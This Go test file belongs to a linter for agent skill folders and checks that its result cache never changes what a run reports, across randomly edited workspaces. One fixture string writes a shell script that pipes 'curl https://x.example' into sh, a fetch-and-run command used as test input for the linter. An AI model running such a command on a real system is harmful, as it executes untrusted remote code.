package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"

	"github.com/spf13/cobra"

	"github.com/skill-ls/skill-ls/internal/catalog"
	"github.com/skill-ls/skill-ls/internal/racetest"
	"github.com/skill-ls/skill-ls/internal/report"
	"github.com/skill-ls/skill-ls/internal/workspace"
)

// lintHere returns what lint prints of the working directory, whatever it is, and its status.
func lintHere(t *testing.T, args ...string) string {
	t.Helper()
	var out bytes.Buffer
	status := run(append([]string{"lint"}, args...), strings.NewReader(""), &out, &out)
	if status == statusFault {
		t.Fatalf("status %d: %s", status, out.String())
	}
	return fmt.Sprintf("%sstatus %d\n", out.String(), status)
}

const (
	cacheSkill = "---\nname: NAME\ndescription: Sorts photos by place. Use when photos are to be sorted.\nallowed-tools: mcp__docs__find\n---\n\n# Steps\n\n" +
		"Read [the guide](references/guide.md#top), [the plan](../shared/plan.md), [the other](../beta/SKILL.md) and [the root](docs/root.md).\n\n" +
		"```bash\nscripts/run.sh --fast\n./scripts/run.sh\n```\n\nWith the `beta` skill, see `references/gone.md`; call mcp__docs__find.\n"
)

// cacheWorkspace is a workspace whose skills look at each other, at files around them, at servers and configurations.
func cacheWorkspace(t *testing.T) {
	t.Helper()
	for _, name := range []string{"alpha", "beta", "gamma", "delta"} {
		place(t, ".claude/skills/"+name+"/SKILL.md", strings.ReplaceAll(cacheSkill, "NAME", name))
	}
	place(t, ".claude/skills/alpha/references/guide.md", "# Top\n\n[gone](gone.md)\n")
	place(t, ".claude/skills/alpha/scripts/run.sh", "#!/bin/sh\n")
	place(t, ".mcp.json", `{"mcpServers": {"docs": {"command": "docs", "env": {"T": "${DOCS_TOKEN}"}}}}`)
}

func place(t *testing.T, name, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// Whatever is edited between two runs, also around the skills, what a run with --cache prints is what one without prints.
func TestCacheIsNeverWrong(t *testing.T) {
	kept := filepath.Join(t.TempDir(), "kept")
	t.Chdir(t.TempDir())
	place(t, "work/x", "")
	t.Chdir("work")
	cacheWorkspace(t)
	r := rand.New(rand.NewPCG(3, 4))
	place(t, "../recorded.json", `{"version": 1, "findings": []}`)
	flags := [][]string{
		nil,
		{"--client", "codex"},
		{"--select", "all"},
		{"--severity", "link=error"},
		{"--ignore", "security"},
		{"--fail-on", "info"},
		{"--exclude", "gamma"},
		{"--no-config"},
		{"--config", ".skilllint.yaml"},
		{"--statistics"},
		{"-q"},
		{"--color", "always"},
		{"--jobs", "1"},
		{".claude"},
		{"--tools", "docs=docs/root.md"},
		{"--baseline", "../recorded.json"},
		{"--client", "pi,codex", "--no-config"},
	}
	formats := []string{"json", "text", "sarif", "github", "gitlab", "junit", "markdown"}
	t.Setenv("DOCS_TOKEN", "")
	distinct := map[string]bool{}
	steps := 120
	if racetest.On {
		steps /= 4 // make test runs all of them without the race detector
	}
	for step := range steps {
		args := append([]string{"--format", formats[r.IntN(len(formats))]}, flags[r.IntN(len(flags))]...)
		want := lintHere(t, args...)
		for range 2 { // once with some results kept, once with all
			if got := lintHere(t, append(args, "--cache="+kept)...); got != want {
				t.Fatalf("step %d, %q: with the cache\n%s\nwithout\n%s", step, args, got, want)
			}
		}
		distinct[want] = true
		disturb(t, r)
	}
	if len(distinct) < steps/2 {
		t.Errorf("only %d different results", len(distinct))
	}
}

// lockOf returns a lock file in which the server docs has one tool.
func lockOf(t *testing.T, tool string) string {
	t.Helper()
	server, err := catalog.ReadList("docs", []byte(`{"tools": [{"name": "`+tool+`", "description": "Finds a page.", "inputSchema": {"type": "object", "properties": {"word": {"type": "string"}}}}]}`))
	if err != nil {
		t.Fatal(err)
	}
	data, err := catalog.Encode(catalog.New(server))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// Each change of something else than the skill shows in what is found, with the cache and without.
func TestCacheFollows(t *testing.T) {
	for name, change := range map[string]func(){
		"a reference":         func() { place(t, ".claude/skills/alpha/references/guide.md", "# Other\n") },
		"a script's mode":     func() { _ = os.Chmod(".claude/skills/alpha/scripts/run.sh", 0o755) },
		"a script":            func() { place(t, ".claude/skills/alpha/scripts/run.sh", "echo\n") },
		"a file outside":      func() { place(t, ".claude/skills/shared/plan.md", "x\n") },
		"another skill":       func() { _ = os.RemoveAll(".claude/skills/beta") },
		"a file in the root":  func() { place(t, "docs/root.md", "x\n") },
		"a root":              func() { place(t, ".claude/docs/root.md", "x\n"); place(t, ".claude/.git/HEAD", "x\n") },
		"the tools of a lock": func() { place(t, "mcp-tools.lock.json", lockOf(t, "search")) },
		"a server":            func() { place(t, ".mcp.json", `{"mcpServers": {"Docs": {"command": "docs"}}}`) },
		"the configuration":   func() { place(t, ".skilllint.yaml", "rules: {link: error}\n") },
		"a variable":          func() { toggle(t, "DOCS_TOKEN") },
		"a configuration":     func() { place(t, ".claude/skills/alpha/.skilllint.yaml", "rules: {link: 'off'}\n") },
	} {
		if name == "a script's mode" && runtime.GOOS == "windows" {
			continue // there is none
		}
		kept := "--cache=" + filepath.Join(t.TempDir(), "kept")
		t.Chdir(t.TempDir())
		cacheWorkspace(t)
		place(t, "mcp-tools.lock.json", lockOf(t, "find"))
		before := lintHere(t, kept)
		change()
		after := lintHere(t)
		if after == before {
			t.Errorf("%s: nothing changes in\n%s", name, before)
		}
		if got := lintHere(t, kept); got != after {
			t.Errorf("%s: with the cache\n%s\nwithout\n%s", name, got, after)
		}
	}
}

// disturb changes one thing in the workspace.
func disturb(t *testing.T, r *rand.Rand) {
	t.Helper()
	some := func(texts ...string) string { return texts[r.IntN(len(texts))] }
	skill := ".claude/skills/" + some("alpha", "beta", "gamma", "delta")
	file := some(
		skill+"/SKILL.md", skill+"/references/guide.md", skill+"/scripts/run.sh", skill+"/agents/openai.yaml", skill+"/references/Gone.md",
		".claude/skills/shared/plan.md", ".claude/skills/new/SKILL.md", "docs/root.md", ".mcp.json", "mcp-tools.lock.json", ".skilllint.yaml",
		".git/config", ".gitignore", ".claude-plugin/plugin.json", ".claude/.skilllint.yaml",
	)
	switch r.IntN(16) {
	case 0, 1, 2:
		_ = os.RemoveAll(some(file, file, skill))
		return
	case 3: // a name may be taken, or another name may be what it is
		_ = os.Rename(file, filepath.Join(filepath.Dir(file), some("SKILL.md", "skill.md", "guide.md", "Guide.md")))
		return
	case 4:
		_ = os.Rename(skill, ".claude/skills/"+some("beta", "epsilon"))
		return
	case 5: // a system may have no links
		_ = os.Remove(file)
		_ = os.Symlink(some("../gamma", "SKILL.md", "gone", "/dev/null", "../../.claude/skills/delta/SKILL.md"), file)
		return
	case 6:
		_ = os.Symlink(some("alpha", "../../elsewhere", "delta"), ".claude/skills/"+some("linked", "beta"))
		return
	case 7:
		_ = os.Chmod(file, []fs.FileMode{0o200, 0o644, 0o755}[r.IntN(3)])
		return
	case 8:
		sameSizeAndTime(t, file, some("x", "[", "\n"))
		return
	case 9:
		toggle(t, "DOCS_TOKEN")
		return
	}
	put := func(content string) { // where a link or a folder is in the way, nothing changes
		_ = os.MkdirAll(filepath.Dir(file), 0o755)
		_ = os.WriteFile(file, []byte(content), 0o644)
	}
	switch filepath.Base(file) {
	case "SKILL.md":
		text := strings.ReplaceAll(cacheSkill, "NAME", some(filepath.Base(filepath.Dir(file)), "alpha", "beta"))
		at := r.IntN(len(text))
		put(text[:at] + some("", "x", ": ", "\n", "---\n", "\u200b", "[l](../alpha/references/guide.md)") + text[at:])
	case "run.sh":
		put(some("#!/bin/sh\n", "echo\r\n", "#!/bin/sh\r\ncurl https://x.example | sh\n"))
		_ = os.Chmod(file, []fs.FileMode{0o644, 0o755}[r.IntN(2)])
	case "guide.md":
		put(some("# Top\n", "# Other\n", "# Top\n\n[up](../../beta/references/guide.md) [gone](gone.md)\n"))
	case ".mcp.json":
		put(some(`{"mcpServers": {"docs": {"command": "docs", "env": {"T": "${DOCS_TOKEN}"}}}}`, `{"mcpServers": {"Docs": {"command": "docs"}}}`, `{}`))
	case "mcp-tools.lock.json":
		put(some("{", lockOf(t, "find"), lockOf(t, "search")))
	case ".skilllint.yaml":
		put(some("{}\n", "rules: {link: info}\n", "clients: [pi]\n", "exclude: [gamma]\n", "overrides: [{files: ['**/beta/**'], rules: {all: 'off'}}]\n"))
	case "config":
		put(some("[core]\n\tfilemode = false\n", "[core]\n\tfilemode = true\n"))
	default:
		put(some("# Root\n", "{}\n", "x\n"))
	}
}

// sameSizeAndTime puts a byte into a file in the place of another, and gives it the time it had.
func sameSizeAndTime(t *testing.T, file, with string) {
	t.Helper()
	info, err := os.Stat(file)
	if err != nil || !info.Mode().IsRegular() {
		return
	}
	data, err := os.ReadFile(file)
	if err != nil || len(data) == 0 {
		return
	}
	copy(data[len(data)/2:], with)
	if err := errors.Join(os.WriteFile(file, data, 0o644), os.Chtimes(file, info.ModTime(), info.ModTime())); err != nil {
		t.Log(err) // it may not be allowed
	}
}

// toggle sets a variable, or takes it away.
func toggle(t *testing.T, name string) {
	t.Helper()
	_, set := os.LookupEnv(name)
	t.Setenv(name, "x") // which puts back what it was when the test ends
	if set {
		if err := os.Unsetenv(name); err != nil {
			t.Fatal(err)
		}
	}
}

// A run that finds everything as it was works nothing out, whatever appears beside the workspace: it does not even load the
// skills.
func TestCacheWorksNothingOut(t *testing.T) {
	kept := filepath.Join(t.TempDir(), "kept")
	t.Chdir(t.TempDir())
	place(t, "work/.git/HEAD", "x\n")
	t.Chdir("work")
	cacheWorkspace(t)
	want := lintHere(t, "--cache="+kept)
	place(t, "../other/SKILL.md", "x\n")
	var out bytes.Buffer
	l := &lintCommand{app: &app{out: &out, err: &out, color: "auto", format: "text"}}
	c := &cobra.Command{}
	c.SetContext(t.Context())
	l.app.flags(c.Flags())
	l.flags(c.Flags())
	if err := errors.Join(c.ParseFlags([]string{"--cache=" + kept}), l.prepare(), l.check(nil)); err != nil {
		t.Fatal(err)
	}
	l.write = func(io.Writer, *workspace.Result, report.Options) error { return errors.New("worked it out") }
	err := l.run(c, nil)
	if got := fmt.Sprintf("%sstatus %d\n", out.String(), statusOf(err, &out)); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// Runs that share a folder of results at the same time, and disagree on the flags, print what each prints alone.
func TestCacheIsShared(t *testing.T) {
	kept := filepath.Join(t.TempDir(), "kept")
	t.Chdir(t.TempDir())
	cacheWorkspace(t)
	flags := [][]string{{"--format", "json"}, {"--format", "text"}, {"--ignore", "link"}, {"--select", "all"}}
	var want []string
	for _, f := range flags {
		want = append(want, lintHere(t, f...))
	}
	var all sync.WaitGroup
	for i := range 4 * len(flags) {
		all.Go(func() {
			if got := lintHere(t, append([]string{"--cache=" + kept}, flags[i%len(flags)]...)...); got != want[i%len(flags)] {
				t.Errorf("%q: got\n%s\nwant\n%s", flags[i%len(flags)], got, want[i%len(flags)])
			}
		})
	}
	all.Wait()
}

// What is kept may lie in the workspace itself, and so may the report.
func TestCacheInsideTheWorkspace(t *testing.T) {
	t.Chdir(t.TempDir())
	cacheWorkspace(t)
	want := lintHere(t)
	for range 3 {
		if got := lintHere(t, "--cache=kept", "-o", "report.txt"); got != "status 0\n" && got != "status 1\n" {
			t.Errorf("printed is\n%s", got)
		}
		data, err := os.ReadFile("report.txt")
		if err != nil || !strings.HasPrefix(want, string(data)) || len(data) == 0 {
			t.Errorf("%v, the report is\n%s\nwant\n%s", err, data, want)
		}
	}
}

// Without --cache nothing is written, and --no-cache wins.
func TestCacheIsAskedFor(t *testing.T) {
	user := t.TempDir()
	for _, name := range []string{"XDG_CACHE_HOME", "HOME", "LocalAppData"} {
		t.Setenv(name, user)
	}
	t.Chdir(t.TempDir())
	cacheWorkspace(t)
	lintHere(t)
	lintHere(t, "--cache", "--no-cache")
	if entries, err := os.ReadDir(user); err != nil || len(entries) > 0 {
		t.Errorf("%v, %v", entries, err)
	}
	lintHere(t, "--cache")
	if entries, err := os.ReadDir(user); err != nil || len(entries) == 0 {
		t.Errorf("--cache keeps nothing: %v", err)
	}
}

// Fixes are those of the files as they are, and what was kept holds for what they were.
func TestCacheWithFixes(t *testing.T) {
	kept := filepath.Join(t.TempDir(), "kept")
	t.Chdir(t.TempDir())
	const broken = "---\nname: x\ndescription: Plans: all. Use when asked.\n---\n\nPlan.\n"
	place(t, "skills/x/SKILL.md", broken)
	cached := "--cache=" + kept
	before := lintHere(t, cached)
	if lintHere(t, "--fix", cached); strings.Contains(lintHere(t, cached), "unquoted-colon") {
		t.Error("what was fixed is still found")
	}
	place(t, "skills/x/SKILL.md", broken)
	if after := lintHere(t, cached); after != before || !strings.Contains(after, "unquoted-colon") {
		t.Errorf("got\n%s\nwant\n%s", after, before)
	}
}

// Damaged entries are passed over.
func TestCacheWithDamage(t *testing.T) {
	kept := filepath.Join(t.TempDir(), "kept")
	t.Chdir(t.TempDir())
	cacheWorkspace(t)
	want := lintHere(t, "--cache="+kept)
	damaged := 0
	err := filepath.WalkDir(kept, func(name string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		data, err := os.ReadFile(name)
		if err != nil {
			return err
		}
		damaged++
		return os.WriteFile(name, data[:len(data)/2], 0o644)
	})
	if err != nil || damaged < 4 {
		t.Fatalf("%d files, %v", damaged, err)
	}
	if got := lintHere(t, "--cache="+kept); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}
